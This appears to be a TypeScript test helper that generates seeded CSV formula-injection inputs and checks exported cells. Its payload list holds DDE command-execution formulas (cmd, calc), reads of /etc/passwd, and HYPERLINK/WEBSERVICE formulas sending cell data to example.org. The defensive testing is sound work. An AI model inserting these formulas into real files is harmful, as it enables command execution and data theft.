import { chanceOf } from '../../src/platform/audit/testing.ts';

const calls: readonly string[] = [
  '1+1',
  'SUM(A1:A9)',
  'HYPERLINK("http://example.org/?"&A1;"look")',
  'HYPERLINK("http://example.org/?"&A1,"look")',
  'WEBSERVICE("http://example.org")',
  'IMPORTXML("http://example.org","//a")',
  "cmd|' /C calc'!A0",
  `DDE("soffice";"/etc/passwd";"A1")`,
  "'file:///etc/passwd'#$passwd.A1",
  'INFO("directory")',
  'CELL("filename")',
  'MSEXCEL|\'\\..\\..\\cmd.exe\'!"A1"',
  'RAND()',
  'NOW()',
  '1E3',
  '"a"&"b"',
  'INDIRECT("A1")',
  'A1',
  '{1;2}',
  'TRUE()',
];
const signs = ['=', '+', '-', '@', '=-', '=+', '-+', '+=', '@=', '=@', '＝', '＋', '－', '＠', '|', '%'];
/** What may stand in front, and a spreadsheet passes over. */
const fronts = [
  '',
  '',
  '',
  ' ',
  '\t',
  '\r',
  '\n',
  '\r\n',
  '\u00a0',
  '\ufeff',
  '\u200b',
  '\u0001',
  '\u2003',
  ' \t ',
];
/** What closes the cell before, where a program does not quote, or parts cells by another sign. */
const breaks = [
  '',
  '',
  '',
  '',
  '"',
  '",',
  '";',
  ';',
  ',',
  '\t',
  'x;',
  'x,',
  'x\t',
  'x\n',
  '"\n',
  "'",
  "';",
  '","',
];
const ends = ['', '', '', '"', ';', ' ', '\n', "'", '`'];

/** So many texts that a spreadsheet would take for a formula if nobody minded, each once, the same for the same seed. */
export function formulas(seed: number, count: number): string[] {
  const chance = chanceOf(seed);
  const of = (list: readonly string[]) => list[chance(list.length)]!;
  const made = new Set<string>();
  while (made.size < count)
    made.add(
      `${of(breaks)}${of(fronts)}${of(signs)}${of(calls)}${chance(3) ? '' : `&"${made.size}"`}${of(ends)}`,
    );
  return [...made];
}

/** The cells of a CSV file by RFC 4180, read by other code than wrote it. Throws when it is none. */
export function readCsv(text: string): string[][] {
  return readRows(text).map(({ cells }) => cells);
}

/** The rows of such a file as they were written, each with its line end. */
export function rowsOf(text: string): string[] {
  return readRows(text).map(({ from, to }) => text.slice(from, to));
}

function readRows(text: string) {
  const rows: { cells: string[]; from: number; to: number }[] = [];
  let cells: string[] = [];
  let at = text.startsWith('\ufeff') ? 1 : 0;
  let from = at;
  while (at < text.length) {
    const [cell, next] = readCell(text, at);
    cells.push(cell);
    at = next;
    if (text.startsWith('\r\n', at)) {
      at += 2;
      rows.push({ cells, from, to: at });
      cells = [];
      from = at;
    } else if (text[at] === ',') at += 1;
    else throw new Error(`neither comma nor line end at ${at}`);
  }
  if (cells.length > 0) throw new Error('the last line does not end');
  return rows;
}

function readCell(text: string, start: number): [cell: string, next: number] {
  if (text[start] !== '"') {
    const [bare = ''] = /^[^",\r\n]*/.exec(text.slice(start, start + 100_000)) ?? [];
    return [bare, start + bare.length];
  }
  let at = start + 1;
  for (;;) {
    const quote = text.indexOf('"', at);
    if (quote === -1) throw new Error(`a quote that does not end at ${start}`);
    if (text[quote + 1] !== '"') return [text.slice(start + 1, quote).replaceAll('""', '"'), quote + 1];
    at = quote + 2;
  }
}

/** The cells that a spreadsheet could take for a formula. A plain number with its sign is none. */
export function runnable(cells: readonly string[]): string[] {
  return cells.filter(
    (cell) => /^[\s\p{C}]*[=+\-@|%＝＋－＠]/u.test(cell) && !/^[+-]?\d+([.,]\d+)?$/.test(cell),
  );
}
